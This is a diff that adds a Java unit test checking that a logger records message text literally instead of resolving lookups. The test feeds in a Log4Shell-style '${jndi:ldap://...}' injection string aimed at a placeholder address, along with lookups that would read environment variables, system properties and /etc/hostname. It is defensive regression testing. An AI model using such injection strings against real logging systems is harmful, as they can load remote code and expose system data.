@@ -103,4 +103,17 @@ class RoutingTest {
         assertThat(warnings.records()).hasSize(5000).allMatch(record -> record.endsWith(text));
         assertThat(first.batches()).isGreaterThan(10);
     }
+
+    @Test
+    void text_of_an_event_is_never_resolved() {
+        MemoryWriter writer = MemoryWriter.fresh("lookup");
+        LoggerContext context = LoggerContext.start(
+                Contexts.config().writer(MemoryWriter.config("lookup")).build());
+        Logger log = context.getLogger("lookup");
+        log.info("${jndi:ldap://192.0.2.1/a}");
+        log.info("{}", "${env:HOME} ${sys:user.name} ${file:/etc/hostname}");
+        Contexts.close(context);
+        assertThat(writer.records())
+                .containsExactly("${jndi:ldap://192.0.2.1/a}", "${env:HOME} ${sys:user.name} ${file:/etc/hostname}");
+    }
 }
